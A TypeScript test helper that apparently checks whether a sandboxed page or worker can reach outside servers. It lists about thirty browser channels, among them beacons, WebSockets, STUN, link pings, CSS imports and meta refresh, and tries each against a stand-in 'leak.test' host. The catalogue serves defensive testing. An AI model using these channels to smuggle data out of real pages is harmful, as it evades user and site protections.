/**
 * Every way that a page or a worker has to reach another server, each to a host name of its own, so that the name
 * alone tells which way was taken. The functions run in the browser. Speculation rules are not among them: a browser
 * under test does not follow them even without rules of ours, so nothing would be shown.
 */
export const pageVectors = [
  'fetch',
  'xhr',
  'beacon',
  'keepalive',
  'fetch-later',
  'event-source',
  'web-socket',
  'web-transport',
  'image',
  'stylesheet',
  'css-import',
  'font',
  'audio',
  'script',
  'import',
  'prefetch',
  'preload',
  'ping',
  'object',
  'iframe',
  'form',
  'dns-prefetch',
  'preconnect',
  'stun',
  'window-open',
] as const;

/** Each takes the page away where it succeeds. */
export const leavingVectors = ['location', 'meta-refresh', 'link'] as const;

export const workerVectors = [
  'worker-fetch',
  'worker-xhr',
  'worker-web-socket',
  'worker-event-source',
  'worker-web-transport',
  'worker-import',
] as const;

export const hostSuffix = 'leak.test';

export function hostOf(vector: string): string {
  return `${vector}.${hostSuffix}`;
}

export async function tryInPage({ vector, host }: { vector: string; host: string }): Promise<void> {
  const url = `https://${host}/words`;
  const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const style = (text: string): void => {
    add('style', {}).textContent = text;
  };
  const make = (name: string, ...parameters: readonly unknown[]): unknown =>
    Reflect.construct(Reflect.get(globalThis, name) as new () => unknown, parameters);
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(url, { mode: 'no-cors' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
    beacon: () => navigator.sendBeacon(url, 'words'),
    keepalive: () => fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'words' }),
    'fetch-later': () =>
      (Reflect.get(globalThis, 'fetchLater') as (url: string, options: object) => unknown)(url, {
        activateAfter: 0,
      }),
    'event-source': () => make('EventSource', url),
    'web-socket': () => make('WebSocket', url.replace('https', 'wss')),
    'web-transport': () => make('WebTransport', url),
    image: () => {
      new Image().src = url;
    },
    stylesheet: () => add('link', { rel: 'stylesheet', href: url }),
    'css-import': () => style(`@import url("${url}");`),
    font: () => new FontFace('leak', `url(${url})`).load(),
    audio: () => new Audio(url).load(),
    script: () => add('script', { src: url }),
    import: () => import(url),
    prefetch: () => add('link', { rel: 'prefetch', href: url }),
    preload: () => add('link', { rel: 'preload', as: 'image', href: url }),
    // A link to where the page is already: only the ping leaves.
    ping: () => add('a', { href: location.hash === '' ? '#' : location.hash, ping: url }).click(),
    object: () => add('object', { data: url }),
    iframe: () => add('iframe', { src: url }),
    form: () => (add('form', { action: url, method: 'post', target: '_blank' }) as HTMLFormElement).submit(),
    'dns-prefetch': () => add('link', { rel: 'dns-prefetch', href: url }),
    preconnect: () => add('link', { rel: 'preconnect', href: url }),
    stun: async () => {
      const peer = make('RTCPeerConnection', {
        iceServers: [{ urls: `stun:${host}:3478` }],
      }) as RTCPeerConnection;
      peer.createDataChannel('words');
      await peer.setLocalDescription(await peer.createOffer());
    },
    'window-open': () => window.open(url),
    location: () => {
      location.href = url;
    },
    'meta-refresh': () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }),
    link: () => add('a', { href: url }).click(),
  };
  try {
    await Promise.race([ways[vector]?.(), new Promise((resolve) => setTimeout(resolve, 300))]);
  } catch {
    // A way that is closed throws; the sinks say what went out.
  }
}

export async function tryInWorker({ vector, host }: { vector: string; host: string }): Promise<void> {
  const url = `https://${host}/words`;
  const make = (name: string, ...parameters: readonly unknown[]): unknown =>
    Reflect.construct(Reflect.get(globalThis, name) as new () => unknown, parameters);
  const ways: Record<string, () => unknown> = {
    'worker-fetch': () => fetch(url, { mode: 'no-cors' }),
    'worker-xhr': () => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
    'worker-web-socket': () => make('WebSocket', url.replace('https', 'wss')),
    'worker-event-source': () => make('EventSource', url),
    'worker-web-transport': () => make('WebTransport', url),
    'worker-import': () => import(url),
  };
  try {
    await Promise.race([ways[vector]?.(), new Promise((resolve) => setTimeout(resolve, 300))]);
  } catch {
    // As above.
  }
}
